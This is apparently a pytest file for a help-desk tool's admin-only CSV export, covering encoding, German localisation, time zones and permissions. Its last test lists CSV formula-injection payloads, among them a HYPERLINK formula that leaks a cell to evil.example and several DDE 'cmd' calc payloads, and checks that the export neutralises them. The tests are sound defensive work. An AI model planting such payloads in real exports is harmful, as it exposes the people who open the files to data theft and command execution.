"""`/ticket-admin export`: a CSV Excel opens with umlauts intact, for admins only,
streamed, with every cell a person wrote kept as text."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from flashticket_core.domain.enums import Priority
from flashticket_core.errors import NotAllowed
from flashticket_core.i18n import Language
from flashticket_core.service_layer.desk import HelpDesk
from flashticket_core.service_layer.export import COLUMNS
from tests.conftest import ADMIN, ALICE, BOB, SUPPORT, Clock


def parse(text: str, delimiter: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with the byte-order mark
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def test_export_of_a_period_with_every_field(desk: HelpDesk, clock: Clock) -> None:
    clock.now = datetime(2026, 1, 31, 23, 0, tzinfo=UTC)
    desk.tickets.open_ticket(
        ALICE, title="Januar: Drucker grün", description='Zeile 1\nZeile 2; "quoted"'
    )
    clock.now = datetime(2026, 2, 1, 9, 0, tzinfo=UTC)
    feb = desk.tickets.open_ticket(BOB, title="Februar: Maus").id
    desk.tickets.take(SUPPORT, feb)
    gone = desk.tickets.open_ticket(BOB, title="deleted").id
    desk.tickets.delete(ADMIN, gone)
    out = io.StringIO()
    count = desk.admin.export_csv(
        ADMIN, out, since=datetime(2026, 1, 1, tzinfo=UTC), until=datetime(2026, 2, 1, tzinfo=UTC)
    )
    rows = parse(out.getvalue(), ",")
    assert count == 1
    assert rows[0][:3] == ["ID", "Title", "Description"]
    assert rows[0][9] == "Created (UTC)"
    assert rows[1][1] == "Januar: Drucker grün"
    assert rows[1][2] == 'Zeile 1\nZeile 2; "quoted"'
    everything = io.StringIO()
    assert desk.admin.export_csv(ADMIN, everything) == 2  # the deleted ticket is not exported
    february = dict(zip(COLUMNS, parse(everything.getvalue(), ",")[2], strict=True))
    assert february["status"] == "In progress"
    assert february["priority"] == "Medium"
    assert february["assignee_id"] == SUPPORT
    assert february["created_at"] == "2026-02-01 09:00:00+00:00"


def test_german_export_is_german_with_semicolons_and_the_desks_zone(
    desk: HelpDesk, clock: Clock
) -> None:
    """Excel in German splits at `;` and reads UTF-8 by its byte-order mark; headers and
    values are German; times are the help desk's, its zone named, with their offset."""
    clock.now = datetime(2026, 7, 1, 8, 30, tzinfo=UTC)
    ticket = desk.tickets.open_ticket(ALICE, title="Umlaute äöü ß", priority=Priority.HIGH)
    desk.tickets.take(SUPPORT, ticket.id)
    desk = HelpDesk.over(replace(desk.env, language=Language.DE, zone=ZoneInfo("Europe/Berlin")))
    out = io.StringIO()
    desk.admin.export_csv(ADMIN, out)
    rows = parse(out.getvalue(), ";")
    assert rows[0][:5] == ["Nr.", "Titel", "Beschreibung", "Status", "Priorität"]
    assert rows[0][9] == "Erstellt (Europe/Berlin)"
    record = dict(zip(COLUMNS, rows[1], strict=True))
    assert record["title"] == "Umlaute äöü ß"
    assert (record["status"], record["priority"]) == ("In Bearbeitung", "Hoch")
    assert record["created_at"] == "2026-07-01 10:30:00+02:00"


@pytest.mark.parametrize("actor", [ALICE, SUPPORT])
def test_only_admins_export(desk: HelpDesk, actor: str) -> None:
    out = io.StringIO()
    with pytest.raises(NotAllowed):
        desk.admin.export_csv(actor, out)
    assert out.getvalue() == ""


def test_names_are_stored_once_and_follow_a_rename(desk: HelpDesk) -> None:
    desk.tickets.open_ticket(ALICE, title="Maus")
    desk.people.remember_names({ALICE: "  Alice   Müller ", "not an id": "x", BOB: ""})
    assert desk.people.knows_name(ALICE, "Alice Müller")
    assert not desk.people.knows_name(BOB, "")
    desk.people.remember_names({ALICE: "Alice Meyer"})
    out = io.StringIO()
    desk.admin.export_csv(ADMIN, out)
    row = dict(zip(COLUMNS, parse(out.getvalue(), ",")[1], strict=True))
    assert row["reporter_name"] == "Alice Meyer"
    assert row["assignee_name"] == ""


HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?d="&C2,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "＝full-width equals",
    "plain title = not a formula",
    "'already quoted",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝")


@pytest.mark.parametrize("language", [Language.EN, Language.DE])
def test_hostile_cells_round_trip_as_text(desk: HelpDesk, language: Language) -> None:
    """OWASP CSV injection: no cell a person wrote can start a formula, and every title
    reads back as what was typed, behind the apostrophe spreadsheets take for "text"."""
    stored = []
    for title in HOSTILE_TITLES:
        ticket_id = desk.tickets.open_ticket(ALICE, title=title, description=title).id
        detail = desk.queries.show(ADMIN, ticket_id)
        stored.append((detail.ticket.title, detail.ticket.description))
    desk.people.remember_names({ALICE: "=cmd|' /C calc'!A0"})
    desk = HelpDesk.over(replace(desk.env, language=language))
    out = io.StringIO()
    desk.admin.export_csv(ADMIN, out)
    rows = parse(out.getvalue(), ";" if language is Language.DE else ",")[1:]
    assert len(rows) == len(HOSTILE_TITLES)
    for row, (title, description) in zip(rows, stored, strict=True):
        record = dict(zip(COLUMNS, row, strict=True))
        for cell in (record["title"], record["description"], record["reporter_name"]):
            assert not cell.startswith(TRIGGERS)
        assert record["title"] == ("'" + title if title.startswith(TRIGGERS) else title)
        assert record["description"] == (
            "'" + description if description.startswith(TRIGGERS) else description
        )
        assert record["reporter_name"] == "'=cmd|' /C calc'!A0"
    # Every cell is quoted, so no separator or line break inside a title splits a row.
    assert (
        out.getvalue()
        .splitlines()[0]
        .startswith('\ufeff"' + ("ID" if language is Language.EN else "Nr."))
    )
